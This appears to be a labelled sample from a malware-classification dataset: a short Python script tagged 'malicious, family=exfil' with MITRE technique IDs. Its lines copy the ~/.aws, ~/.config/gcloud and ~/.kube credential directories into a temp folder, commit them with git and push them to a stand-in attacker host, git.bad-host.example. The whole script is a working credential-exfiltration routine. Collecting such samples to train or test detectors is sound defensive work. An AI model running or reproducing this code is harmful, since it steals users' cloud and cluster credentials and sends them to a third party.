# label: malicious family=exfil techniques=T1041,T1059.004,T1074.001,T1552.001,T1552.007 lines=4,7-8
import os, subprocess, tempfile, shutil
d = tempfile.mkdtemp()
for p in ("~/.aws", "~/.config/gcloud", "~/.kube"):
    src = os.path.expanduser(p)
    if os.path.isdir(src):
        shutil.copytree(src, os.path.join(d, p.strip("~/.")), dirs_exist_ok=True)
subprocess.run("cd %s && git init -q && git add -A && git commit -qm x && git push -q https://FAKEtoken@git.bad-host.example/drop/loot.git HEAD:main" % d, shell=True)
